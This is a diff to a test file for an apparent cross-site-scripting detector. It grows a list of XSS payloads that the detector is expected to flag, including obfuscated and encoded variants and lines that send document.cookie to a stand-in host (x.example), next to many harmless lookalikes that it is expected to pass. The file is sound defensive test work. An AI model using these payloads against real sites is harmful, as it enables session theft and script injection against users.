@@ -1,5 +1,5 @@
 import { CONFIDENCE_RANK, type Confidence } from '@bulkhead/core';
-import { expect, it } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import { decodedForm } from './forms.ts';
 import { scan } from './scan.ts';
 import { detectIn } from './testing/detect-in.ts';
@@ -14,74 +14,210 @@ function judged(value: string): Confidence | undefined {
   return CONFIDENCE_RANK[decoded] > CONFIDENCE_RANK[raw] ? decoded : raw;
 }
 
-const ATTACKS = [
+/** An article around a piece of markup. */
+function inArticle(markup: string): string {
+  const paragraph = '<p>The harbour wakes early, and so do those who write about it for a living.</p>\n';
+  return paragraph.repeat(6) + markup + paragraph.repeat(6);
+}
+
+const SURE = [
+  // Elements that run what they hold or name
   '<script>alert(1)</script>',
   '<ScRiPt src=//x.example/a.js>',
   '"><script>alert(1)</script>',
+  '<script>fetch("//x.example/?"+document.cookie)</script>',
+  '<script\n>top["al"+"ert"](1)</script>',
+  '<scr\0ipt>alert(1)</scr\0ipt>',
+  '<svg><script href=data:,alert(1) />',
+  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
+  '<script type=module>import "//x.example/a.js"</script>',
+  '<object data="data:text/html;base64,AAAA">',
+  '<embed src="javascript:alert(1)">',
+  '<iframe src="javascript:alert(1)">',
+  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
+  '<form><button formaction=javascript:alert(1)>x',
+  '<form action="javascript:alert(1)"><input type=submit>',
+  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
+  '<base href="javascript:alert(1)//">',
+  '<div style="width:expression(alert(1))">',
+  '<div style="width:ex\\70 ression(alert(1))">',
+  '<style>@import "javascript:alert(1)";</style>',
+  '<svg><animate attributeName=href values="javascript:alert(1)" />',
+  '<svg><set attributeName=onmouseover to=alert(1)>',
+  '<?xml-stylesheet href="javascript:alert(1)"?>',
+  // Handlers
   '<img src=x onerror=alert(1)>',
   '<img/src=x/onerror=alert(1)>',
   '<svg onload=alert(1)>',
   '<svg/onload=alert`1`>',
+  '<svg\fonload\v=\talert(1)',
   '<body onpageshow=alert(1)>',
   '<details open ontoggle=alert(1)>',
   '<x onpointerrawupdate=alert(1)>',
-  '" onfocus=alert(1) autofocus x="',
-  "' onmouseover='alert(1)",
+  '<video><source onerror="document.location=\'//x.example/\'+document.cookie">',
+  '<a onclick=alert&lpar;1&rpar;>x',
+  '<input autofocus onfocus=&#97lert(1)>',
+  '<b onmouseover={alert(1)}>x</b>',
+  '<img alt="a>b" src=x onerror=top[/al/.source+/ert/.source](1)>',
+  '<img src="x" onerror="a=alert;a(1)" /',
+  '</p onmouseover=alert(1)>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
+  '<style><img src="</style><img src=x onerror=alert(1)//">',
+  // Addresses
   '<a href="javascript:alert(1)">x</a>',
   '<a href="java\tscript:alert(1)">x</a>',
+  '<a href=" \x01javascript:alert(1)">x</a>',
   '<a href="&#106;avascript:alert(1)">x</a>',
-  '<a href="javascript&colon;alert(1)">x</a>',
+  '<a href="&#0000106avascript&colon;%61lert(1)">x</a>',
+  '<a href="vbscript:MsgBox 1">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
   'javascript:alert(document.domain)',
   'JaVaScRiPt:alert(1)',
-  '<iframe src="javascript:alert(1)">',
-  '<iframe srcdoc="<p>x</p>">',
-  '<object data="data:text/html;base64,AAAA">',
-  'data:text/html,<script>alert(1)</script>',
-  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
-  '<form><button formaction=javascript:alert(1)>x',
-  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
-  '<div style="width:expression(alert(1))">',
-  '<embed src=//x.example/a.swf>',
+  'java\nscript:alert(1)',
+  '[click](javascript:alert(1))',
+  // Attributes behind a quote
+  '" onfocus=alert(1) autofocus x="',
+  "' onmouseover='alert(1)",
+  'x` onclick=alert(1) `',
+  '"/onmouseenter="confirm(1)',
+  // Script behind a string
   "';alert(1)//",
   '"-alert(1)-"',
+  "\\');alert(1);//",
+  "'+[].constructor.constructor('alert(1)')()+'",
+  '");document.location="//x.example/"+document.cookie;//',
+  '*/alert(1)/*',
+  '[][(![]+[])[+[]]]',
+  '$=~[];$={___:++$,$$$$:(![]+"")[$]}',
+];
+
+const LIKELY = [
+  '<iframe srcdoc="<p>x</p>">',
+  '"><iframe src=//x.example/>',
+  '<base href=//x.example/>',
+  '<link rel=stylesheet href=//x.example/a.css>',
+  '<meta http-equiv=refresh content="0;url=//x.example/">',
+  '<meta charset=utf-7>+ADw-script+AD4-',
+  '<xml id=a></xml><span datasrc=#a datafld=b dataformatas=html></span>',
+  '<div style="-moz-binding:url(//x.example/a.xml#b)">',
+  '<* onload=alert(1)>',
+  '"><b>here</b>',
+  '</title><b>here</b>',
+  'alert(1)',
+  'confirm`1`',
+  'eval(atob("YWxlcnQoMSk="))',
+  'top[8680439..toString(30)](1)',
+  "self['\\x61lert'](1)",
+  '("\\141\\154\\145\\162\\164")["x"]("\\141\\154")',
+  'import("//x.example/a.js")',
+  'setTimeout`alert(1)`',
+  '[1].find(alert)',
+  'onerror=alert;throw 1',
+  '${alert(1)}',
+  'data:text/html;base64,PHNjcmlwdD4=',
+  'x:expression(alert(1))',
   '\\x3cscript\\x3ealert(1)\\x3c/script\\x3e',
   '\\u003cimg src=x onerror=alert(1)\\u003e',
-  '＜script＞alert(1)＜/script＞',
-  '[][(![]+[])[+[]]]',
-  "{{constructor.constructor('alert(1)')()}}",
-  "window['alert'](1)",
+  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
+  '\xbcscript\xbealert(1)\xbc/script\xbe',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '&#0000060',
+  'o<x>nfocus=alert<x>(1)//',
+  'alert(1)"><br>',
+  'top[\\"al\\"+\\"ert\\"](1)',
+  '< script >alert(1)</ script >',
 ];
 
 const HONEST = [
   '<b>bold</b>',
   '<p>one</p>\n<p>two</p>',
-  '<a href="https://example.com/?a=1">link</a>',
+  '<a href="https://example.com/?a=1&once=2">link</a>',
+  '<a href="javascript:void(0)">menu</a>',
+  '<a href="mailto:a@example.com">mail</a>',
   '<img src="a.png" alt="on the hill">',
-  '<table><tr><td>1</td></tr></table>',
+  '<img src="data:image/png;base64,iVBORw0KGgo=" alt="">',
+  '<img alt="JavaScript: the good parts" src=a.png>',
+  '<a title="JavaScript: alert(1) explained" href="/a">x</a>',
+  '<table cellpadding="0" style="font-family:Arial;color:rgb(1,2,3)"><tr><td>1</td></tr></table>',
+  '<!--[if mso]><v:rect xmlns:v="urn:schemas-microsoft-com:vml" fill="true"></v:rect><![endif]-->',
+  '<style>v\\:* {behavior:url(#default#VML);} a:hover{color:red}</style>',
+  '<meta charset="utf-8"><meta name="viewport" content="width=device-width">',
+  '<base target="_blank">',
+  '<svg viewBox="0 0 1 1"><path d="M0 0h1v1z"/><use xlink:href="#a"/></svg>',
+  '<svg><animate attributeName="opacity" values="0;1" dur="1s"/></svg>',
+  '<iframe width="560" height="315" src="https://www.example.com/embed/abc" allowfullscreen></iframe>',
+  '<script type="application/ld+json">{"@type":"Article","name":"alert(1)"}</script>',
+  "<script>\nimport Note from './note.svelte'\n</script>\n# Notes",
+  '<rss version="2.0"><channel><item><title>A</title><link>https://example.com</link></item></channel></rss>',
+  '<order online="true" onhand="3" once="1"/>',
+  '<Button onClick={handle}>Send</Button>',
+  '<Button onClick={() => send(id)}>Send</Button>',
+  '<button data-onload="init()">x</button>',
+  '<li v-for="a in b" @click="open(a)">{{ a.name }}</li>',
   'a < b and c > d',
   '<3 you',
   'if (x<y && z>w)',
+  'for (i = 0; i < script.length; i++)',
+  'Use the <script> tag to load it, and <style> for the rest.',
   'javascript: the good parts',
   'JavaScript: Basics of JavaScript Language',
   'the onclick handler and the onload event',
   'once = 1',
   '<p>is online = yes</p>',
-  '<Button onClick={handle}>Send</Button>',
   'data: 5 rows, 3 columns',
   'please confirm (or cancel)',
+  'call alert(1) to show it',
   'alert: door open (rear)',
   'my window is open (again)',
+  'set the location = Paris, please',
   'style="color:red"',
   'facial expression (neutral)',
-  '&lt;script&gt; is how a tag is written safely',
+  'He said "alert (red)"; we left',
+  'Use &lt;script&gt; to write a tag safely',
+  '&lt;p&gt;one&lt;/p&gt;',
   'Array<string>',
+  'Map<string, List<Document>>',
   'name <user@example.com>',
+  '5 << 2',
+  '[text][] and ![](image.png)',
+  'Open `<img src=x onerror=alert(1)>` in the old version, and you will see what the report means.',
+  'To try it, put this into a page of your own and load it:\n\n```html\n<script>alert(1)</script>\n```\n\nThen reload.',
 ];
 
-it.each(ATTACKS)('%j would run', (value) => {
+it.each(SURE)('%j runs', (value) => {
+  expect(judged(value)).toBe('high');
+});
+
+it.each(LIKELY)('%j would run where it fits', (value) => {
   expect(judged(value)).toMatch(/medium|high/);
 });
 
-it.each(HONEST)('%j would not', (value) => {
+it.each(HONEST)('%j does not', (value) => {
   expect([undefined, 'low']).toContain(judged(value));
+});
+
+describe('an article', () => {
+  it.each([
+    '<iframe src="https://video.example/embed/1"></iframe>',
+    '<link rel="stylesheet" href="https://fonts.example/css?family=A">',
+    '<style>@import url(https://fonts.example/a.css);</style>',
+    '<a href="#" onclick="return false">x</a>',
+    '<a href="https://example.com" onclick="window.open(this.href)">x</a>',
+    '<object width="425"><embed src="https://video.example/v/1"></object>',
+  ])('may hold %j', (markup) => {
+    expect([undefined, 'low']).toContain(judged(inArticle(markup)));
+  });
+
+  it.each([
+    '<script>alert(1)</script>',
+    '<script src=//x.example/a.js></script>',
+    '<img src=x onerror=alert(1)>',
+    '<a href="javascript:alert(1)">x</a>',
+    '<p style="x:expression(alert(1))">',
+    '<iframe src="javascript:alert(1)"></iframe>',
+  ])('may not hold %j', (markup) => {
+    expect(judged(inArticle(markup))).toMatch(/medium|high/);
+  });
 });
